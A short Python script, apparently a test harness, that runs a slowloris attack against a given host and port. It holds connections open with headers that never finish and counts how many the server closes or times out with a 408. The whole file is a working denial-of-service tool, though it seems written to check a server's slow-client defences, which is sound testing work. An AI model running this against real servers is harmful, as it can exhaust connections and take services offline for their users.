#!/usr/bin/env python3
"""slowloris.py HOST PORT N SECONDS: opens N connections that each send a
request head one header line per second and never finish it. Prints how
many the server closed before SECONDS were up, then exits."""
import socket
import sys
import time

host, port, n, secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
socks = []
for i in range(n):
    s = socket.create_connection((host, port), timeout=5)
    s.sendall(b"GET /slowloris HTTP/1.1\r\nHost: a.test\r\n")
    s.setblocking(False)
    socks.append(s)
print(f"opened {len(socks)}", flush=True)
closed = set()
end = time.time() + secs
while time.time() < end and len(closed) < n:
    for i, s in enumerate(socks):
        if i in closed:
            continue
        try:
            d = s.recv(4096)
            if d == b"" or d.startswith(b"HTTP/1.1 408"):
                closed.add(i)
                continue
        except BlockingIOError:
            pass
        except OSError:
            closed.add(i)
            continue
        try:
            s.send(b"X-Slow: 1\r\n")
        except OSError:
            closed.add(i)
    time.sleep(1)
print(f"closed {len(closed)}", flush=True)
